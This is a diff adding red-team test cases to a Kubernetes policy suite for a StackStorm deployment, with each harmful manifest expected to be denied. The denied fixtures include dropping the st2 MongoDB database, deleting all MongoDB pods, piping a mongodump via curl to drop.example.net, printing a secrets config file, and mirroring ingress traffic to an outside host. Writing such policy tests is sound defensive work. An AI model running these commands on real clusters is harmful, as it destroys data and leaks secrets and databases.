@@ -1595,6 +1595,7 @@ const cases: RuleCase[] = [
   ...fresh8Cases(),
   ...fresh9StoreCases(),
   ...fresh9ClusterCases(),
+  ...fresh9JobCases(),
 ];
 
 /** The ninth red team's store data (test/policy/redteam/fresh9-store.ts has the overlays). */
@@ -2184,3 +2185,119 @@ describe('policy rules through the compiled wasm', () => {
     }
   });
 });
+
+/** The ninth red team's destructive and leaking commands (test/policy/redteam/fresh9-edge.ts has the overlays). */
+function fresh9JobCases(): RuleCase[] {
+  const job = (name: string, container: Manifest, pod: Manifest = {}): Manifest => ({
+    apiVersion: 'batch/v1',
+    kind: 'Job',
+    metadata: meta(name),
+    spec: { template: { spec: { restartPolicy: 'Never', containers: [{ name, image: 'mongo:4.4.29', resources: { limits: { cpu: '100m', memory: '128Mi' } }, ...container }], ...pod } } },
+  });
+  const sh = (script: string): Manifest => ({ command: ['sh', '-c', script] });
+  const mongo = (): Manifest => workload('mongodb', { kind: 'StatefulSet', replicas: 3, container: { image: 'mongo:4.4.29' } });
+  const secretsConf = { name: 'secrets', secret: { secretName: 'st2-config-secrets' } };
+  const api = (init: Manifest): Manifest[] =>
+    haWorkload('st2api', 2, {
+      pod: {
+        volumes: [{ name: 'st2-rbac', configMap: { name: 'st2-rbac-on' } }, secretsConf],
+        initContainers: [{ name: 'init', image: 'busybox:1.36.1', resources: { limits: { cpu: '100m', memory: '64Mi' } }, volumeMounts: [{ name: 'secrets', mountPath: '/etc/st2/st2.secrets.conf', subPath: 'st2.secrets.conf' }], ...init }],
+      },
+    });
+  return [
+    {
+      name: 'a Job dropping the st2 database is denied',
+      rule: 'ST2-OPS-046',
+      environment: 'production',
+      resources: () => [job('reset', { command: ['mongo', '--host', 'mongodb-0.mongodb', 'st2', '--eval', 'db.dropDatabase()'] })],
+      expected: deny('ST2-OPS-046', { field: 'spec.template.spec.containers.0', message: 'command=drop' }),
+    },
+    { name: 'a Job pinging the database is allowed', rule: 'ST2-OPS-046', environment: 'production', resources: () => [job('ping', { command: ['mongo', '--host', 'mongodb-0.mongodb', '--eval', 'db.adminCommand({ping: 1})'] })], expected: 'allowed' },
+    {
+      name: "a CronJob's kubectl deleting every MongoDB pod by label is denied",
+      rule: 'ST2-OPS-047',
+      environment: 'production',
+      resources: () => [mongo(), job('recycle', { image: 'bitnami/kubectl:1.32.4', ...sh(`kubectl -n ${NAMESPACE} delete pod -l app=mongodb`) })],
+      expected: deny('ST2-OPS-047', { field: 'spec.template.spec.containers.0', message: 'store=mongodb' }),
+    },
+    {
+      name: 'kubectl deleting pods of a label no store carries is allowed',
+      rule: 'ST2-OPS-047',
+      environment: 'production',
+      resources: () => [job('reaper', { image: 'bitnami/kubectl:1.32.4', ...sh(`kubectl -n ${NAMESPACE} delete pod -l app=smoke-test`) })],
+      expected: 'allowed',
+    },
+    {
+      name: 'a mongodump sent to an outside host is denied',
+      rule: 'ST2-SEC-016',
+      environment: 'production',
+      resources: () => [job('offsite', sh('mongodump --host mongodb-0.mongodb --archive --gzip | curl -T - https://drop.example.net/st2.gz'))],
+      expected: deny('ST2-SEC-016', { field: 'spec.template.spec.containers.0', message: 'payload=store-dump' }),
+    },
+    {
+      name: 'a mongodump sent to a Service in the cluster is allowed',
+      rule: 'ST2-SEC-016',
+      environment: 'production',
+      resources: () => [job('offsite', sh('mongodump --host mongodb-0.mongodb --archive --gzip | curl -T - http://minio.backup.svc.cluster.local:9000/st2/st2.gz'))],
+      expected: 'allowed',
+    },
+    {
+      name: "st2api's init container printing st2.secrets.conf is denied",
+      rule: 'ST2-SEC-017',
+      environment: 'production',
+      resources: () => api(sh('cat /etc/st2/st2.secrets.conf')),
+      expected: deny('ST2-SEC-017', { field: 'spec.template.spec.initContainers.0', message: 'secret=st2-config-secrets' }),
+    },
+    { name: 'the same file copied to a file is allowed', rule: 'ST2-SEC-017', environment: 'production', resources: () => api(sh('cat /etc/st2/st2.secrets.conf > /tmp/st2.secrets.conf')), expected: 'allowed' },
+    ...fresh9EdgeCases(),
+  ];
+}
+
+/** The ninth red team's edge: copies of st2's traffic, impostors behind its Services, other tenants' hosts. */
+function fresh9EdgeCases(): RuleCase[] {
+  const web = (): Manifest[] => [...haWorkload('st2web', 2, { container: { image: 'stackstorm/st2web:3.8.1' } }), service('st2web', 'st2web')];
+  const ingress = (host: string, annotations: Record<string, string> = {}): Manifest => ({
+    apiVersion: 'networking.k8s.io/v1',
+    kind: 'Ingress',
+    metadata: meta('st2web', { annotations }),
+    spec: { rules: [{ host, http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'st2web', port: { number: 80 } } } }] } }], tls: [{ hosts: [host], secretName: 'st2web-tls' }] },
+  });
+  const echo = (labels: Record<string, string>): Manifest => ({
+    apiVersion: 'apps/v1',
+    kind: 'Deployment',
+    metadata: meta('echo'),
+    spec: { replicas: 1, selector: { matchLabels: labels }, template: { metadata: { labels }, spec: { containers: [{ name: 'echo', image: 'mendhak/http-https-echo:34', resources: { limits: { cpu: '100m', memory: '128Mi' } } }] } } },
+  });
+  return [
+    {
+      name: "st2web's Ingress mirroring every request to an outside host is denied",
+      rule: 'ST2-EXP-013',
+      environment: 'production',
+      resources: () => [...web(), ingress('st2.example.com', { 'nginx.ingress.kubernetes.io/mirror-target': 'https://copy.example.net$request_uri' })],
+      expected: deny('ST2-EXP-013', { field: 'metadata.annotations.nginx.ingress.kubernetes.io/mirror-target', message: 'host=copy.example.net' }),
+    },
+    {
+      name: "st2web's Ingress authenticating through an https auth-url is allowed",
+      rule: 'ST2-EXP-013',
+      environment: 'production',
+      resources: () => [...web(), ingress('st2.example.com', { 'nginx.ingress.kubernetes.io/auth-url': 'https://sso.example.net/oauth2/auth' })],
+      expected: 'allowed',
+    },
+    {
+      name: "an echo server carrying st2web's Service labels is denied",
+      rule: 'ST2-EXP-014',
+      environment: 'production',
+      resources: () => [...web(), echo({ app: 'st2web', release: 'st2' })],
+      expected: deny('ST2-EXP-014', { field: 'spec.template.metadata.labels', message: 'component=st2web' }),
+    },
+    { name: 'the echo server with labels of its own is allowed', rule: 'ST2-EXP-014', environment: 'production', resources: () => [...web(), echo({ app: 'echo', release: 'st2' })], expected: 'allowed' },
+    {
+      name: 'an Ingress to st2web for a wildcard over the company domain is denied',
+      rule: 'ST2-EXP-015',
+      environment: 'production',
+      resources: () => [...web(), ingress('*.example.com')],
+      expected: deny('ST2-EXP-015', { field: 'spec.rules.0.host', message: 'host=*.example.com' }),
+    },
+    { name: "an Ingress for st2's own host is allowed", rule: 'ST2-EXP-015', environment: 'production', resources: () => [...web(), ingress('st2.example.com')], expected: 'allowed' },
+  ];
+}
